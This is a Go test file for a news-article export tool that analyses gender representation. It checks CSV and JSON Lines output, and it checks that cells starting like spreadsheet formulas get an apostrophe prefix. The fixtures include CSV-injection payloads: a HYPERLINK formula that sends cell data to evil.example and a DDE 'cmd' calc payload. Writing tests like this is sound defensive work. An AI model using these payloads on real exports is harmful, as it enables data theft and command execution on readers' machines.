package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"genderlens/indexer"
	"genderlens/indexer/indextest"
	"genderlens/internal/golden"
	"genderlens/model"
)

// TestExportFormats stores three synthetic articles and compares each export (format and filters) to its golden file.
func TestExportFormats(t *testing.T) {
	dataDir := t.TempDir()
	idx := indextest.OpenDir(t, dataDir)
	ict := model.Vietnam()
	for _, d := range []indexer.Document{
		indexer.Document{Article: model.Article{URL: "https://a.example/1", Outlet: "bao-a", Title: "Phụ nữ, \"khởi nghiệp\"", Body: "Chị Lan nói.", Section: "Kinh tế",
			Published: time.Date(2025, 11, 20, 8, 0, 0, 0, ict)}, RulesVersion: "r1", Score: 72.5,
			People: model.GenderCounts{Female: 1, Male: 1}, Quoted: model.GenderCounts{Female: 1},
			QuotedByRole: map[string]model.GenderCounts{"expert": {Female: 1}},
			Categories:   []string{"stereotype"}, RuleIDs: []string{"st-001"}, Topics: []string{"women_focus"}, FindingCount: 1},
		indexer.Document{Article: model.Article{URL: "https://a.example/2", Outlet: "bao-a", Title: "Giao thông", Body: "Ông Nam nói.",
			Published: time.Date(2025, 3, 1, 8, 0, 0, 0, ict)}, RulesVersion: "r1", Score: 60, Quoted: model.GenderCounts{Male: 1}},
		indexer.Document{Article: model.Article{URL: "https://b.example/3", Outlet: "phuong-b", Title: "Họp tổ dân phố", Body: "Không có ai được trích dẫn."}, RulesVersion: "r1", Score: 50},
	} {
		if err := idx.Put(context.Background(), d); err != nil {
			t.Fatal(err)
		}
	}
	if err := idx.Close(); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		golden string
		args   []string
	}{
		{"export_all.csv", []string{"--format", "csv"}},
		{"export_action_month.csv", []string{"--format", "csv", "--outlet", "bao-a", "--from", "2025-11-15", "--to", "2025-12-15"}},
		{"export_outlet.jsonl", []string{"--outlet", "phuong-b"}},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			var out, errOut bytes.Buffer
			env := &environment{stdin: strings.NewReader(""), stdout: &out, stderr: &errOut}
			args := append([]string{"export", "--data", dataDir}, tt.args...)
			if code := run(context.Background(), env, args); code != 0 {
				t.Fatalf("export exited %d: %s", code, errOut.String())
			}
			golden.Assert(t, filepath.Join("testdata", tt.golden), out.Bytes())
		})
	}
	var errOut bytes.Buffer
	env := &environment{stdin: strings.NewReader(""), stdout: &bytes.Buffer{}, stderr: &errOut}
	if code := run(context.Background(), env, []string{"export", "--data", dataDir, "--format", "xml"}); code != 2 {
		t.Errorf("--format xml exited %d, want 2", code)
	}
}

// TestFaultExportCSVFormulas: crawled text that starts like a spreadsheet formula (=, +, -, @, tab, CR) is exported
// with a leading apostrophe, so that opening the CSV runs nothing; the JSON Lines export keeps the text as it is.
func TestFaultExportCSVFormulas(t *testing.T) {
	dataDir := t.TempDir()
	idx := indextest.OpenDir(t, dataDir)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"}
	d := indexer.Document{Article: model.Article{URL: "https://a.example/1", Outlet: "bao-a", Title: hostile[0],
		Author: hostile[1], Section: hostile[2], Body: "Chị Lan nói.", Published: time.Date(2025, 11, 20, 8, 0, 0, 0, model.Vietnam())},
		RulesVersion: hostile[3], Score: 50, Categories: []string{hostile[4]}, RuleIDs: []string{hostile[5]}}
	if err := idx.Put(context.Background(), d); err != nil {
		t.Fatal(err)
	}
	if err := idx.Close(); err != nil {
		t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	env := &environment{stdin: strings.NewReader(""), stdout: &out, stderr: &errOut}
	if code := run(context.Background(), env, []string{"export", "--data", dataDir, "--format", "csv"}); code != 0 {
		t.Fatalf("export exited %d: %s", code, errOut.String())
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV: %d rows, %v", len(rows), err)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s starts a formula: %q", rows[0][i], cell)
		}
	}
	col := map[string]string{}
	for i, h := range rows[0] {
		col[h] = rows[1][i]
	}
	for h, want := range map[string]string{"title": "'" + hostile[0], "author": "'" + hostile[1], "section": "'" + hostile[2],
		"rules_version": "'" + hostile[3], "categories": "'" + hostile[4], "rule_ids": "'" + hostile[5], "url": "https://a.example/1"} {
		if col[h] != want {
			t.Errorf("%s = %q, want %q", h, col[h], want)
		}
	}
}
